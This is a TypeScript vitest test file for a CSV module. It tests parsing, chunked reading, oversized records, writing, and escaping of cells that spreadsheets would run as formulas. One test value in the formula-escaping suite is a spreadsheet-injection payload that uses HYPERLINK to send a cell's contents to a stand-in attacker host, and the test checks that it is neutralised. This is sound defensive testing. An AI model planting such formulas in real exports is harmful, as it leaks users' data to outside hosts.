import { describe, expect, it } from 'vitest';
import { CsvReader, CsvSyntaxError, csvLine, escapeFormula, unescapeFormula } from './csv.ts';

function read(text: string, chunkSize = text.length || 1, maxRecordChars?: number) {
  const reader = new CsvReader(maxRecordChars === undefined ? {} : { maxRecordChars });
  const records = [];
  for (let i = 0; i < text.length; i += chunkSize) records.push(...reader.push(text.slice(i, i + chunkSize)));
  records.push(...reader.end());
  return records;
}

describe('reading', () => {
  it('splits records and fields, with LF or CRLF, and numbers the lines', () => {
    expect(read('a,b\r\n1,2\n3,\n')).toEqual([
      { line: 1, fields: ['a', 'b'] },
      { line: 2, fields: ['1', '2'] },
      { line: 3, fields: ['3', ''] },
    ]);
  });

  it('reads quoted fields with commas, doubled quotes and line breaks; lines count from where a record starts', () => {
    const records = read('name,description\n"Odin, The Project","say ""hi""\nand bye"\nnext,x');
    expect(records).toEqual([
      { line: 1, fields: ['name', 'description'] },
      { line: 2, fields: ['Odin, The Project', 'say "hi"\nand bye'] },
      { line: 4, fields: ['next', 'x'] },
    ]);
  });

  it('gives the same records whatever the chunk boundaries (even inside "" and CRLF)', () => {
    const text = 'a,"b ""q"" c"\r\n"x\r\ny",z\r\n,\r\n';
    const whole = read(text);
    for (const size of [1, 2, 3, 5, 7]) expect(read(text, size)).toEqual(whole);
    expect(whole.map((r) => r.fields)).toEqual([['a', 'b "q" c'], ['x\r\ny', 'z'], ['', '']]);
  });

  it('skips blank lines and a byte-order mark, and needs no final line break', () => {
    expect(read('\ufeffa\n\n\nb').map((r) => [r.line, r.fields])).toEqual([
      [1, ['a']],
      [4, ['b']],
    ]);
  });

  it('an unclosed quote is a syntax error naming the line the record starts on', () => {
    let error: unknown;
    try {
      read('a\n"open\nstill open');
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(CsvSyntaxError);
    expect(error).toMatchObject({ line: 2, message: 'a quoted field is not closed before the end of the file' });
  });

  it('a record over the limit comes out empty and marked, and the following records are intact', () => {
    const records = read(`a,b\n${'x'.repeat(100)},"${'y'.repeat(50)}"\nc,d\n`, 16, 64);
    expect(records).toEqual([
      { line: 1, fields: ['a', 'b'] },
      { line: 2, fields: [], oversized: true },
      { line: 3, fields: ['c', 'd'] },
    ]);
  });
});

describe('writing', () => {
  it('quotes only the fields that need it and reads back the same', () => {
    const fields = ['plain', 'with, comma', 'with "quotes"', 'two\nlines', ''];
    const line = csvLine(fields);
    expect(line).toBe('plain,"with, comma","with ""quotes""","two\nlines",\n');
    expect(read(line)[0]!.fields).toEqual(fields);
  });
});

describe('cells a spreadsheet would run as a formula', () => {
  const formulaStart = /^[=+\-@\t\r]/;

  it('are written with a leading quote, and so is a cell that starts with a quote; other cells are untouched', () => {
    const values = ['=1+1', '+33 1', '-1', '@SUM(A1)', '\tx', '\rx', "'quoted", "''", 'plain', '', 'a=b', ' =1', '2024-05-01T12:00:00.000Z', 'true'];
    expect(values.map(escapeFormula)).toEqual([
      "'=1+1",
      "'+33 1",
      "'-1",
      "'@SUM(A1)",
      "'\tx",
      "'\rx",
      "''quoted",
      "'''",
      'plain',
      '',
      'a=b',
      ' =1',
      '2024-05-01T12:00:00.000Z',
      'true',
    ]);
  });

  it('never start a written cell, and read back into exactly the values written', () => {
    const values = ['=HYPERLINK("https://evil.example/?leak="&B2,"More info")', '+1', '-1', '@x', '\t=1', '\r=1', "'", "'=1", "''x", 'plain', '', 'x=1'];
    const [record] = read(csvLine(values));
    expect(record!.fields.filter((cell) => formulaStart.test(cell))).toEqual([]);
    expect(record!.fields.map(unescapeFormula)).toEqual(values);
  });

  it('unescaping takes exactly one leading quote off, and nothing else', () => {
    expect(["'=1", "''x", "'", 'plain', "it's", ''].map(unescapeFormula)).toEqual(['=1', "'x", '', 'plain', "it's", '']);
  });
});
